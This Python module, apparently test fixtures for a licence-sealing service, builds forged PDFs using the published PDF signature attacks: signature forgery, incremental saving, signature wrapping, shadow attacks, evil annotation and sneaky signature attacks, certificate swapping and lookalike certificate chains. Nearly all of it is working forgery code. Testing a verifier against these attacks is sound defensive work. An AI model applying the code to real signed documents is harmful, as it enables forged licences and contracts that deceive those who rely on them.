"""Forgeries of sealed licences, built the way the published attacks on PDF signatures build them.

Sources of the attack classes (all against real sealed licences of a test instance):

* Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund: How To Spoof PDF
  Signatures" (CCS 2019): universal signature forgery (USF), incremental saving attack (ISA), signature
  wrapping (SWA).
* Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed PDFs" (NDSS 2021):
  hide, replace, hide-and-replace.
* Rohlmann, Mladenov, Mainka, Schwenk, "Breaking the Specification: PDF Certification" (IEEE S&P 2021):
  evil annotation attack (EAA) and sneaky signature attack (SSA) on certified documents.

Everything here is a pure function of bytes, except the builders that need a signing key (they take it).
"""

from __future__ import annotations

import re
from io import BytesIO

import pikepdf
from asn1crypto import cms as asn1_cms
from asn1crypto import x509 as asn1_x509
from pyhanko.pdf_utils.reader import PdfFileReader

# --- locating the seal ------------------------------------------------------------------------------------------


def main_signature_range(pdf: bytes) -> tuple[int, int, int, int]:
    """The /ByteRange of the first (regular) signature: (0, len1, start2, len2)."""
    reader = PdfFileReader(BytesIO(pdf))
    sig = reader.embedded_regular_signatures[0]
    first, len1, start2, len2 = (int(v) for v in sig.byte_range)
    return first, len1, start2, len2


def signed_revision(pdf: bytes) -> bytes:
    """The bytes the first seal signed: the document as it was right after sealing (a B-T file)."""
    _, _, start2, len2 = main_signature_range(pdf)
    return pdf[: start2 + len2]


def _byte_range_entry(pdf: bytes) -> re.Match[bytes]:
    _, len1, start2, len2 = main_signature_range(pdf)
    pattern = rb"/ByteRange\s*\[\s*0\s+%d\s+%d\s+%d\s*\]" % (len1, start2, len2)
    found = re.search(pattern, pdf)
    assert found is not None
    return found


def _same_length(replacement: bytes, length: int) -> bytes:
    assert len(replacement) <= length
    return replacement + b" " * (length - len(replacement))


# --- universal signature forgery: the signature dictionary's own values -------------------------------------------


def usf_contents(pdf: bytes, how: str) -> bytes:
    """/Contents of the seal made ``missing`` (key renamed), ``empty`` (<>) or ``null``, lengths preserved."""
    _, len1, start2, _ = main_signature_range(pdf)
    if how == "missing":
        key = pdf.rfind(b"/Contents", 0, len1)
        assert key > 0
        return pdf[:key] + b"/Xontents" + pdf[key + 9 :]
    value = {"empty": b"<>", "null": b"null"}[how]
    return pdf[:len1] + _same_length(value, start2 - len1) + pdf[start2:]


def usf_byte_range(pdf: bytes, how: str) -> bytes:
    """/ByteRange of the seal made ``missing`` (key renamed), ``empty`` ([]) or ``null``, lengths preserved."""
    entry = _byte_range_entry(pdf)
    if how == "missing":
        replacement = b"/XyteRange" + entry.group(0)[10:]
    else:
        replacement = _same_length({"empty": b"/ByteRange []", "null": b"/ByteRange null"}[how], len(entry.group(0)))
    return pdf[: entry.start()] + replacement + pdf[entry.end() :]


# --- incremental updates written by hand (what an attacker's tool does) ------------------------------------------


def _trailer_facts(pdf: bytes) -> tuple[int, int, bytes]:
    """(/Size, /Root object number, /ID array) of the newest trailer."""
    reader = PdfFileReader(BytesIO(pdf))
    root = reader.trailer.raw_get("/Root")
    ids = [value.original_bytes.hex().encode() for value in reader.trailer["/ID"]]
    return int(reader.trailer["/Size"]), int(root.idnum), b"[<%s> <%s>]" % (ids[0], ids[1])


def append_update(
    pdf: bytes,
    objects: dict[int, bytes],
    *,
    root: int | None = None,
    facts_from: bytes | None = None,
    prev: int | None = None,
) -> bytes:
    """``pdf`` plus a well-formed incremental update that (re)defines ``objects`` (number -> body).

    ``root`` swaps the trailer's /Root for another object number; ``facts_from`` and ``prev`` take the trailer
    facts from another file and set /Prev (for files whose own xref no longer reads, as after wrapping).
    """
    size, root_number, ids = _trailer_facts(facts_from if facts_from is not None else pdf)
    if prev is None:
        prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += b"xref\n"
    for number, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    new_size = max(size, max(objects) + 1)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d /ID %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        new_size,
        root if root is not None else root_number,
        prev,
        ids,
        xref_at,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def _first_page(pdf: bytes) -> tuple[int, pikepdf.Pdf]:
    document = pikepdf.open(BytesIO(pdf))
    return document.pages[0].obj.objgen[0], document


def _serialise(obj: pikepdf.Object) -> bytes:
    """The object's own body (for an indirect object: its dictionary, not a reference to it)."""
    return bytes(obj.unparse(resolved=True))


FORGED_TEXT = b"BT /F1 28 Tf 150 760 Td (Forged Licence) Tj ET"


def isa_overlay(pdf: bytes) -> bytes:
    """ISA: an update that appends a content stream to the first page, painting over the licence text."""
    number, document = _first_page(pdf)
    size, _, _ = _trailer_facts(pdf)
    page = document.pages[0].obj
    overlay = b"q 1 g 140 750 300 40 re f Q " + FORGED_TEXT
    original = page.Contents
    contents = list(original) if isinstance(original, pikepdf.Array) else [original]
    refs = b" ".join(b"%d %d R" % c.objgen for c in contents)
    page.Contents = pikepdf.Array([])  # placeholder, replaced in the serialised body below
    page_body = _serialise(page).replace(b"/Contents [ ]", b"/Contents [%s %d 0 R]" % (refs, size), 1)
    assert b"/Contents [%s" % refs in page_body, page_body
    return append_update(pdf, {number: page_body, size: _stream(overlay)})


def isa_page_tree_swap(pdf: bytes) -> bytes:
    """ISA: an update that gives the catalog a new page tree whose only page shows forged content."""
    _, document = _first_page(pdf)
    size, root_number, _ = _trailer_facts(pdf)
    root = document.Root
    pages, page, contents = size, size + 1, size + 2
    font = document.pages[0].obj.Resources.Font.F1
    page_body = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R " % (pages, contents)
    page_body += b"/Resources << /Font << /F1 %d %d R >> >> >>" % font.objgen
    root_body = re.sub(rb"/Pages\s+\d+\s+\d+\s+R", b"/Pages %d 0 R" % pages, _serialise(root))
    return append_update(
        pdf,
        {
            root_number: root_body,
            pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page,
            page: page_body,
            contents: _stream(FORGED_TEXT),
        },
    )


def isa_root_swap(pdf: bytes) -> bytes:
    """ISA: an update that leaves every old object alone and points the trailer at a new catalog."""
    _, document = _first_page(pdf)
    size, _, _ = _trailer_facts(pdf)
    catalog, pages, page, contents = size, size + 1, size + 2, size + 3
    font = document.pages[0].obj.Resources.Font.F1
    page_body = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R " % (pages, contents)
    page_body += b"/Resources << /Font << /F1 %d %d R >> >> >>" % font.objgen
    acro = document.Root.get("/AcroForm")
    acro_entry = b" /AcroForm %d %d R" % acro.objgen if acro is not None and acro.is_indirect else b""
    return append_update(
        pdf,
        {
            catalog: b"<< /Type /Catalog /Pages %d 0 R%s >>" % (pages, acro_entry),
            pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page,
            page: page_body,
            contents: _stream(FORGED_TEXT),
        },
        root=catalog,
    )


# --- signature wrapping -----------------------------------------------------------------------------------------


def signature_wrapping(pdf: bytes) -> bytes:
    """SWA: the signed bytes are moved so that the /ByteRange hole holds /Contents *and* the attacker's objects.

    The second signed range (the end of the sealed revision) is moved back by the injected bytes; a new
    revision redefines the signature dictionary with a /ByteRange pointing at the moved bytes, so the bytes
    covered are exactly the originally signed ones and the digest still matches.
    """
    signed = signed_revision(pdf)
    _, len1, start2, len2 = main_signature_range(pdf)
    reader = PdfFileReader(BytesIO(signed))
    sig = reader.embedded_regular_signatures[0]
    sig_ref = sig.sig_object_ref if hasattr(sig, "sig_object_ref") else None
    size, _, _ = _trailer_facts(signed)
    injected = b"\n%d 0 obj\n%s\nendobj\n" % (size, _stream(FORGED_TEXT))
    moved = signed[:start2] + injected + signed[start2:]
    new_start2 = start2 + len(injected)
    # The signature dictionary as the reader sees it, with the re-pointed /ByteRange.
    sig_dict = pikepdf.open(BytesIO(signed))
    found = None
    for field in sig_dict.Root.AcroForm.Fields:
        if field.get("/FT") == pikepdf.Name.Sig:
            found = field.V
    assert found is not None
    number = found.objgen[0] if sig_ref is None else sig_ref.idnum
    body = _serialise(found)
    body = re.sub(
        rb"/ByteRange\s*\[[^\]]*\]",
        b"/ByteRange [0 %d %d %d]" % (len1, new_start2, len2),
        body,
    )
    prev = int(re.findall(rb"startxref\s+(\d+)", signed)[-1]) + len(injected)
    return append_update(moved, {number: body}, facts_from=signed, prev=prev)


# --- shadow attacks: content prepared in the signed revision, revealed by a later update -------------------------


def _helvetica(document: pikepdf.Pdf) -> pikepdf.Object:
    return document.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )


def _form(document: pikepdf.Pdf, content: bytes, font: pikepdf.Object) -> pikepdf.Object:
    return document.make_indirect(
        pikepdf.Stream(
            document,
            content,
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Form,
            BBox=[0, 0, 595, 842],
            Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
        )
    )


GENUINE_TEXT = b"BT /F1 28 Tf 150 760 Td (Food Business Licence) Tj ET"


def shadow_hide_prepared() -> bytes:
    """Hide: the forged text is on the page, covered by an opaque form XObject /Cover; an empty form waits."""
    document = pikepdf.new()
    font = _helvetica(document)
    cover = _form(document, b"q 1 g 0 0 595 842 re f Q " + GENUINE_TEXT, font)
    empty = _form(document, b"", font)
    xobjects = document.make_indirect(pikepdf.Dictionary(Cover=cover, Spare=empty))
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        MediaBox=[0, 0, 595, 842],
        Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font), XObject=xobjects),
        Contents=document.make_stream(FORGED_TEXT + b" q /Cover Do Q"),
    )
    document.pages.append(pikepdf.Page(page))
    out = BytesIO()
    document.save(out, compress_streams=False)
    return out.getvalue()


def _xobject_refs(pdf: bytes) -> tuple[int, dict[str, tuple[int, int]]]:
    """The page's XObject resource dictionary (an indirect object): its number and its references."""
    with pikepdf.open(BytesIO(pdf)) as document:
        xobjects = document.pages[0].obj.Resources.XObject
        assert xobjects.is_indirect
        return xobjects.objgen[0], {str(key)[1:]: value.objgen for key, value in xobjects.items()}


def shadow_hide(sealed: bytes) -> bytes:
    """Hide: the update changes one XObject reference (/Cover -> the empty form): the forged text shows."""
    number, refs = _xobject_refs(sealed)
    spare = refs["Spare"]
    return append_update(sealed, {number: b"<< /Cover %d %d R /Spare %d %d R >>" % (spare + spare)})


def shadow_hide_and_replace_prepared() -> bytes:
    """Hide-and-replace: the page draws /Body (genuine); a complete forged body /Alt sits in the resources."""
    document = pikepdf.new()
    font = _helvetica(document)
    body = _form(document, GENUINE_TEXT, font)
    alternative = _form(document, FORGED_TEXT, font)
    xobjects = document.make_indirect(pikepdf.Dictionary(Body=body, Alt=alternative))
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        MediaBox=[0, 0, 595, 842],
        Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font), XObject=xobjects),
        Contents=document.make_stream(b"q /Body Do Q"),
    )
    document.pages.append(pikepdf.Page(page))
    out = BytesIO()
    document.save(out, compress_streams=False)
    return out.getvalue()


def shadow_hide_and_replace(sealed: bytes) -> bytes:
    """Hide-and-replace: the update points /Body at the prepared forged form; nothing new is written."""
    number, refs = _xobject_refs(sealed)
    alternative = refs["Alt"]
    return append_update(sealed, {number: b"<< /Body %d %d R /Alt %d %d R >>" % (alternative + alternative)})


def shadow_replace_prepared() -> bytes:
    """Replace (optional content): genuine text in OCG "Genuine" (on), forged text in OCG "Forged" (off)."""
    document = pikepdf.new()
    font = _helvetica(document)
    genuine = document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.OCG, Name=pikepdf.String("Genuine")))
    forged = document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.OCG, Name=pikepdf.String("Forged")))
    default = document.make_indirect(pikepdf.Dictionary(ON=[genuine], OFF=[forged], Order=[genuine, forged]))
    document.Root.OCProperties = pikepdf.Dictionary(OCGs=[genuine, forged], D=default)
    content = b"/OC /G BDC " + GENUINE_TEXT + b" EMC /OC /X BDC " + FORGED_TEXT + b" EMC"
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        MediaBox=[0, 0, 595, 842],
        Resources=pikepdf.Dictionary(
            Font=pikepdf.Dictionary(F1=font), Properties=pikepdf.Dictionary(G=genuine, X=forged)
        ),
        Contents=document.make_stream(content),
    )
    document.pages.append(pikepdf.Page(page))
    out = BytesIO()
    document.save(out, compress_streams=False)
    return out.getvalue()


def shadow_replace(sealed: bytes) -> bytes:
    """Replace: the update only flips the default optional-content state: genuine off, forged on."""
    document = pikepdf.open(BytesIO(sealed))
    default = document.Root.OCProperties.D
    genuine, forged = (ocg.objgen for ocg in document.Root.OCProperties.OCGs)
    body = b"<< /ON [%d %d R] /OFF [%d %d R] /Order [%d %d R %d %d R] >>" % (forged + genuine + genuine + forged)
    return append_update(sealed, {default.objgen[0]: body})


# --- the CMS container ------------------------------------------------------------------------------------------


def _cms(pdf: bytes) -> tuple[asn1_cms.ContentInfo, int, int]:
    _, len1, start2, _ = main_signature_range(pdf)
    hole = pdf[len1 + 1 : start2 - 1]
    return asn1_cms.ContentInfo.load(bytes.fromhex(hole.decode("ascii"))), len1, start2


def _put_cms(pdf: bytes, info: asn1_cms.ContentInfo, len1: int, start2: int) -> bytes:
    encoded = info.dump().hex().encode()  # force=True would re-encode every nested token: minutes
    room = start2 - len1 - 2
    assert len(encoded) <= room, "the forged CMS does not fit the reserved /Contents"
    return pdf[: len1 + 1] + encoded + b"0" * (room - len(encoded)) + pdf[start2 - 1 :]


def swap_signer_certificate(pdf: bytes, other_der: bytes) -> bytes:
    """Replace the signer's certificate in the CMS (and the signer identifier) with another real certificate."""
    info, len1, start2 = _cms(pdf)
    signed_data = info["content"]
    signer = signed_data["signer_infos"][0]
    other = asn1_x509.Certificate.load(other_der)
    serial = signer["sid"].chosen["serial_number"].native
    certs = []
    for choice in signed_data["certificates"]:
        cert = choice.chosen
        certs.append(other if cert.serial_number == serial else cert)
    signed_data["certificates"] = asn1_cms.CertificateSet(
        [asn1_cms.CertificateChoices("certificate", c) for c in certs]
    )
    signer["sid"] = asn1_cms.SignerIdentifier(
        "issuer_and_serial_number",
        asn1_cms.IssuerAndSerialNumber({"issuer": other.issuer, "serial_number": other.serial_number}),
    )
    return _put_cms(pdf, info, len1, start2)


def alter_signed_attribute(pdf: bytes) -> bytes:
    """Change one byte of the signing-certificate-v2 signed attribute (the certificate hash it commits to)."""
    info, len1, start2 = _cms(pdf)
    signer = info["content"]["signer_infos"][0]
    attrs = signer["signed_attrs"]
    for attr in attrs:
        if attr["type"].native == "signing_certificate_v2":
            value = attr["values"][0]
            cert_id = value["certs"][0]
            digest = bytearray(cert_id["cert_hash"].native)
            digest[0] ^= 0xFF
            cert_id["cert_hash"] = bytes(digest)
            break
    else:
        raise AssertionError("no signing-certificate-v2 attribute")
    return _put_cms(pdf, info, len1, start2)


def truncate(pdf: bytes, keep: float = 0.6) -> bytes:
    """The first ``keep`` share of the file, as a broken download would leave it."""
    return pdf[: int(len(pdf) * keep)]


# --- certified documents: evil annotation, sneaky signature -----------------------------------------------------


def evil_annotation(certified: bytes) -> bytes:
    """EAA: a FreeText annotation whose appearance paints forged text over the licence (allowed by DocMDP P=3)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(BytesIO(certified))
    page_ref, _ = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    font = page["/Resources"]["/Font"].raw_get("/F1")
    appearance = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 300, 40)]),
            generic.NameObject("/Resources"): generic.DictionaryObject(
                {
                    generic.NameObject("/Font"): generic.DictionaryObject({generic.NameObject("/F1"): font}),
                }
            ),
        },
        stream_data=b"q 1 g 0 0 300 40 re f Q BT /F1 28 Tf 10 10 Td (Forged Licence) Tj ET",
    )
    note = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
            generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in (140, 750, 440, 790)]),
            generic.NameObject("/Contents"): generic.TextStringObject("Forged Licence"),
            generic.NameObject("/DA"): generic.TextStringObject("/F1 28 Tf 0 g"),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): writer.add_object(appearance)}
            ),
        }
    )
    annots = generic.ArrayObject(list(page["/Annots"]) if "/Annots" in page else [])
    annots.append(writer.add_object(note))
    page["/Annots"] = annots
    writer.update_container(page)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def self_signed_signer():  # type: ignore[no-untyped-def]
    """A pyHanko signer with a fresh key and a self-signed certificate."""
    from asn1crypto import keys as asn1_keys
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID
    from pyhanko.sign import signers
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name.from_rfc4514_string("CN=Sneaky Signer,O=Mallory,C=CN")
    assert name.get_attributes_for_oid(NameOID.COMMON_NAME)
    from datetime import UTC, datetime, timedelta

    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=365))
        .sign(key, hashes.SHA256())
    )
    asn1_cert = asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))
    key_info = asn1_keys.PrivateKeyInfo.load(
        key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return signers.SimpleSigner(
        signing_cert=asn1_cert, signing_key=key_info, cert_registry=SimpleCertificateStore.from_certs([asn1_cert])
    )


def sneaky_signature(certified: bytes) -> bytes:
    """SSA: a second, visible signature field signed by anyone (allowed by DocMDP P=2), its stamp saying "Forged"."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import fields, signers
    from pyhanko.stamp import TextStampStyle

    writer = IncrementalPdfFileWriter(BytesIO(certified))
    meta = signers.PdfSignatureMetadata(field_name="Sneaky", md_algorithm="sha256")
    pdf_signer = signers.PdfSigner(
        meta,
        self_signed_signer(),
        stamp_style=TextStampStyle(stamp_text="Forged Licence - valid until 2099"),
        new_field_spec=fields.SigFieldSpec(sig_field_name="Sneaky", on_page=0, box=(140, 740, 460, 800)),
    )
    out: BytesIO = pdf_signer.sign_pdf(writer)
    return out.getvalue()


def lookalike_licence(unsigned: bytes, root, seal_ca, seal) -> bytes:  # type: ignore[no-untyped-def]
    """A licence sealed by a self-made PKI copying the names of our root, seal CA and seal (cryptography certs)."""
    from datetime import UTC, datetime, timedelta

    from asn1crypto import keys as asn1_keys
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import fields, signers
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    now = datetime.now(UTC)

    def issue(subject, issuer_name, issuer_key, key, *, ca: bool):  # type: ignore[no-untyped-def]
        return (
            x509.CertificateBuilder()
            .subject_name(subject)
            .issuer_name(issuer_name)
            .public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - timedelta(days=1))
            .not_valid_after(now + timedelta(days=365))
            .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
            .sign(issuer_key, hashes.SHA256())
        )

    root_key, ca_key, seal_key = (ec.generate_private_key(ec.SECP256R1()) for _ in range(3))
    fake_root = issue(root.subject, root.subject, root_key, root_key, ca=True)
    fake_ca = issue(seal_ca.subject, fake_root.subject, root_key, ca_key, ca=True)
    fake_seal = issue(seal.subject, fake_ca.subject, ca_key, seal_key, ca=False)

    def asn1(cert):  # type: ignore[no-untyped-def]
        return asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))

    signer = signers.SimpleSigner(
        signing_cert=asn1(fake_seal),
        signing_key=asn1_keys.PrivateKeyInfo.load(
            seal_key.private_bytes(
                serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
            )
        ),
        cert_registry=SimpleCertificateStore.from_certs([asn1(fake_ca), asn1(fake_root)]),
    )
    meta = signers.PdfSignatureMetadata(
        field_name="ApprovalSeal", md_algorithm="sha256", subfilter=fields.SigSeedSubFilter.PADES
    )
    out: BytesIO = signers.PdfSigner(meta, signer).sign_pdf(IncrementalPdfFileWriter(BytesIO(unsigned)))
    return out.getvalue()
